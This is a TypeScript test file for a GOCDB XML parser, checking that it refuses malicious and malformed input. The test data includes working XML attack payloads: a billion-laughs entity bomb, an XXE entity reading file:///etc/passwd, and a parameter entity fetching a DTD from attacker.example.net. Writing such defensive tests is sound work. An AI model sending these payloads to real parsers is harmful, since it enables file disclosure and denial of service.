import assert from 'node:assert/strict';
import { test } from 'node:test';
import { InvalidError, TooLargeError } from '../../core/errors.js';
import { parseGocdb } from './parse.js';

const SITE = (i: number) =>
  `<SITE PRIMARY_KEY="${i}G0" NAME="S${i}"><SHORT_NAME>S${i}</SHORT_NAME>` +
  `<CONTACT_EMAIL>ops@s${i}.example.org</CONTACT_EMAIL><SCOPES><SCOPE>EGI</SCOPE></SCOPES></SITE>\n`;

/** Rejects with `type`, a one-line message matching `pattern`, and of course no result. */
async function rejects(
  input: Parameters<typeof parseGocdb>[0],
  type: typeof InvalidError | typeof TooLargeError,
  pattern: RegExp,
  limits?: Parameters<typeof parseGocdb>[1],
): Promise<void> {
  let result: unknown;
  await assert.rejects(
    async () => {
      result = await parseGocdb(input, limits);
    },
    (err: Error) => {
      assert.ok(err instanceof type, `${err.name}: ${err.message}`);
      assert.match(err.message, pattern);
      assert.doesNotMatch(err.message, /\n/);
      return true;
    },
  );
  assert.equal(result, undefined);
}

/** `total` bytes of XML in 64 KiB chunks; reports how much the parser pulled before stopping. */
function generated(total: number, chunkOf: (i: number) => string, head = '<results>\n') {
  const state = { pulled: 0, finished: false };
  async function* chunks() {
    try {
      yield Buffer.from(head);
      for (let i = 0; state.pulled < total; i++) {
        const chunk = Buffer.from(chunkOf(i));
        state.pulled += chunk.length;
        yield chunk;
      }
      yield Buffer.from('</results>');
    } finally {
      state.finished = true;
    }
  }
  return { stream: chunks(), state };
}

test('a billion-laughs document is refused at its DOCTYPE', async () => {
  const lol = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('\n');

  await rejects(`<?xml version="1.0"?>\n<!DOCTYPE results [\n${lol}\n]>\n<results>&lol9;</results>`, InvalidError, /DOCTYPE is not allowed .* at line 13/);
});

test('an external entity (XXE) is refused and nothing is read', async () => {
  await rejects(
    '<?xml version="1.0"?><!DOCTYPE results [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + '<results><NGI ID="1"><NAME>&xxe;</NAME></NGI></results>',
    InvalidError,
    /DOCTYPE is not allowed/,
  );
});

test('a parameter entity pulling an external DTD is refused', async () => {
  await rejects(
    '<!DOCTYPE results [<!ENTITY % remote SYSTEM "http://attacker.example.net/x.dtd"> %remote;]>' + '<results/>',
    InvalidError,
    /DOCTYPE is not allowed/,
  );
});

test('an undefined entity without any DOCTYPE is invalid XML', async () => {
  await rejects('<results>\n<NGI ID="1"><NAME>&xxe;</NAME></NGI></results>', InvalidError, /invalid XML at line 2, column \d+: undefined entity/);
});

test('a 50 MB stream is cut off at the byte limit without being read to the end', async () => {
  const site = SITE(1);
  const perChunk = site.repeat(Math.floor(65536 / site.length));
  const { stream, state } = generated(50 * 1024 * 1024, () => perChunk);

  await rejects(stream, TooLargeError, /document is over 4194304 bytes/, { maxBytes: 4 * 1024 * 1024 });

  assert.ok(state.pulled < 5 * 1024 * 1024, `pulled ${state.pulled} bytes`);
  assert.ok(state.finished, 'the generator was closed');
});

test('a 50 MB text node is refused with default limits after about 64 KiB', async () => {
  const { stream, state } = generated(50 * 1024 * 1024, () => 'A'.repeat(65536), '<results><NGI><NAME>');

  await rejects(stream, TooLargeError, /single text, tag or comment is over 65536 bytes at line 1/);

  assert.ok(state.pulled < 256 * 1024, `pulled ${state.pulled} bytes`);
});

test('a document over the default 64 MiB is refused before any of it is parsed', async () => {
  const body = Buffer.alloc(65 * 1024 * 1024, 0x20);
  body.write('<results>', 0);

  await rejects(body, TooLargeError, /document is over 67108864 bytes/);
});

test('10,000-deep nesting is refused at the depth limit', async () => {
  const xml = `<results>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</results>`;

  await rejects(xml, TooLargeError, /nested deeper than 32 at line 1, column 1\d\d/);
});

test('invalid UTF-8 is refused, naming where it was met', async () => {
  const bytes = Buffer.concat([Buffer.from('<results>\n<NGI ID="1"><NAME>NGI_'), Buffer.from([0xc3, 0x28]), Buffer.from('</NAME></NGI></results>')]);

  await rejects(bytes, InvalidError, /invalid UTF-8 in bytes/);
});

test('invalid UTF-8 split across stream chunks is refused', async () => {
  async function* chunks() {
    yield Buffer.from('<results><NGI ID="1"><NAME>NGI_');
    yield Buffer.from([0xe2, 0x82]);
    yield Buffer.from([0x41]);
    yield Buffer.from('</NAME></NGI></results>');
  }

  await rejects(chunks(), InvalidError, /invalid UTF-8/);
});

test('a truncated document is refused, not half-imported', async () => {
  const whole = `<results>\n${Array.from({ length: 1000 }, (_, i) => SITE(i)).join('')}</results>`;

  await rejects(whole.slice(0, Math.floor(whole.length * 0.7)), InvalidError, /invalid XML at line \d+, column \d+: unclosed tag/);
});

test('an empty document is invalid', async () => {
  await rejects('', InvalidError, /must contain a root element/);
});

test('a document broken after a thousand good records yields no records', async () => {
  const xml = `<results>\n${Array.from({ length: 1000 }, (_, i) => SITE(i)).join('')}<SITE></results>`;

  await rejects(xml, InvalidError, /line 1002/);
});

test('a root other than results is refused', async () => {
  await rejects('<html><SITE/></html>', InvalidError, /root element is <html>, expected <results>/);
});

test('a declared encoding other than UTF-8 is refused', async () => {
  await rejects('<?xml version="1.0" encoding="ISO-8859-1"?><results/>', InvalidError, /unsupported encoding "ISO-8859-1"/);
});

test('too many attributes on one element are refused', async () => {
  const attrs = Array.from({ length: 100 }, (_, i) => `a${i}="x"`).join(' ');

  await rejects(`<results><SITE ${attrs}/></results>`, TooLargeError, /more than 32 attributes/);
});

test('too many elements are refused', async () => {
  const xml = `<results>${'<X/>'.repeat(2000)}</results>`;

  await rejects(xml, TooLargeError, /more than 1000 elements/, { maxElements: 1000 });
});

test('an element text over 64 KiB is refused', async () => {
  await rejects(
    `<results><NGI ID="1"><DESCRIPTION>${'é'.repeat(40_000)}</DESCRIPTION></NGI></results>`,
    TooLargeError,
    /text of <DESCRIPTION> over 65536 bytes/,
  );
});

test('a huge attribute value is refused', async () => {
  await rejects(`<results><SITE NAME="${'x'.repeat(200_000)}"/></results>`, TooLargeError, /single text, tag or comment/);
});

test('the same limits hold inside elements the parser ignores', async () => {
  await rejects(`<results><DOWNTIME>${'<a>'.repeat(40)}</DOWNTIME></results>`, TooLargeError, /nested deeper/);
});

test("an error of the caller's stream propagates unchanged", async () => {
  async function* failing() {
    yield Buffer.from('<results>');
    throw new Error('connection reset');
  }

  await assert.rejects(parseGocdb(failing()), { message: 'connection reset' });
});
